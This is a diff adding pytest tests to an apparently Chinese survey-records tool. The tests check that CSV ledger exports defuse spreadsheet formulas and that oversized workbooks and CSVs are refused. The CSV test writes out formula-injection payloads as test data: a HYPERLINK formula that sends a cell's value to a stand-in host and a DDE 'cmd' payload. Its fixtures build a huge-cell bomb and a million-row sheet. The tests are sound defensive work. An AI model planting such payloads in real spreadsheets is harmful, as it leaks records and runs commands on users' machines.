@@ -4,6 +4,7 @@ command and the real Qt program."""
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import json
 import stat
@@ -114,3 +115,115 @@ def test_a_restore_into_an_existing_folder_leaves_every_file_owner_only(store_di
     assert cli("restore", "--from", made.path, "--data-dir", target)[0] == 0
     modes = {f.name: stat.S_IMODE(f.stat().st_mode) for f in target.iterdir()}
     assert modes == {"keys.json": 0o600, STORE_FILE: 0o600, "ui.ini": 0o600}
+
+
+# --- ledgers out ----------------------------------------------------------------------
+
+
+def test_a_csv_ledger_opens_formulas_typed_into_records_as_text(tmp_path, survey_form, cli):
+    data_dir = tmp_path / "store"
+    typed = [
+        '=HYPERLINK("http://x.example/?"&A2,"点此")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1)",
+    ]
+    records = SurveyRecords(survey_form, seed=5).take(len(typed))
+    with Store.create(data_dir, PASSWORD) as store:
+        store.save_many(
+            survey_form,
+            [r | {"full_name": name} for r, name in zip(records, typed, strict=True)],
+            author="李明",
+        )
+    out = tmp_path / "台账.csv"
+    form = Path(__file__).resolve().parent.parent / "forms" / "outmigrant_labour.yaml"
+    assert cli("export", "--data-dir", data_dir, "--form", form, out)[0] == 0
+    with out.open(encoding="utf-8-sig", newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
+    assert {"'" + name for name in typed} <= set(cells)
+
+
+# --- files from outside -----------------------------------------------------------------
+
+FORM = Path(__file__).resolve().parent.parent / "forms" / "outmigrant_labour.yaml"
+SHEET_HEAD = (
+    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+    b'<row r="1"><c r="A1" t="inlineStr"><is><t>full_name</t></is></c>'
+    b'<c r="B1" t="inlineStr"><is><t>id_number</t></is></c></row>'
+)
+
+
+def _workbook(path: Path, write_rows) -> Path:
+    """A real .xlsx (made by openpyxl) whose sheet is replaced by one written row by row."""
+    from conftest import write_xlsx
+
+    write_xlsx(path.with_suffix(".seed.xlsx"), {"台账": [["full_name", "id_number"]]})
+    with (
+        zipfile.ZipFile(path.with_suffix(".seed.xlsx")) as seed,
+        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book,
+    ):
+        for part in seed.infolist():
+            if part.filename != "xl/worksheets/sheet1.xml":
+                book.writestr(part, seed.read(part))
+        with book.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
+            sheet.write(SHEET_HEAD)
+            write_rows(sheet)
+            sheet.write(b"</sheetData></worksheet>")
+    return path
+
+
+@pytest.fixture(scope="module")
+def cell_bomb(tmp_path_factory):
+    def rows(sheet):
+        sheet.write(b'<row r="2"><c r="A2" t="inlineStr"><is><t>')
+        block = b"A" * (1 << 20)
+        for _ in range(400):
+            sheet.write(block)
+        sheet.write(b"</t></is></c></row>")
+
+    return _workbook(tmp_path_factory.mktemp("bomb") / "一个格子.xlsx", rows)
+
+
+@pytest.fixture(scope="module")
+def million_rows(tmp_path_factory):
+    def rows(sheet):
+        for start in range(2, 1_500_002, 10_000):
+            sheet.write(
+                "".join(
+                    f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>'
+                    for n in range(start, start + 10_000)
+                ).encode()
+            )
+
+    return _workbook(tmp_path_factory.mktemp("rows") / "150万行.xlsx", rows)
+
+
+@pytest.mark.parametrize(
+    ("workbook", "limit"),
+    [("cell_bomb", "上限 100 × "), ("million_rows", "行数超过上限 200,000 行")],
+)
+@pytest.mark.parametrize("command", ["import", "records add", "validate"])
+def test_a_workbook_beyond_its_bounds_is_refused_before_it_is_read(
+    request, store_dir, cli, workbook, limit, command
+):
+    path = request.getfixturevalue(workbook)
+    assert path.stat().st_size < 25 << 20
+    argv = {
+        "import": ["import", "--data-dir", store_dir, "--form", FORM, path, "--yes"],
+        "records add": ["records", "add", "--data-dir", store_dir, "--form", FORM, path],
+        "validate": ["validate", "--form", FORM, path],
+    }[command]
+    code, _, err = cli(*argv)
+    assert code == 2
+    assert path.name in err and limit in err and "没有读取任何内容" in err, err
+    with Store.open(store_dir, PASSWORD) as store:
+        assert store.count_by_status()["draft"] == 5
+
+
+def test_a_csv_of_too_many_rows_is_refused_naming_the_limit(store_dir, tmp_path, cli):
+    path = tmp_path / "台账.csv"
+    path.write_text("姓名,身份证号\n" + "张三,1\n" * 200_001, encoding="utf-8")
+    code, _, err = cli("import", "--data-dir", store_dir, "--form", FORM, path, "--yes")
+    assert code == 2 and "行数超过上限 200,000 行" in err
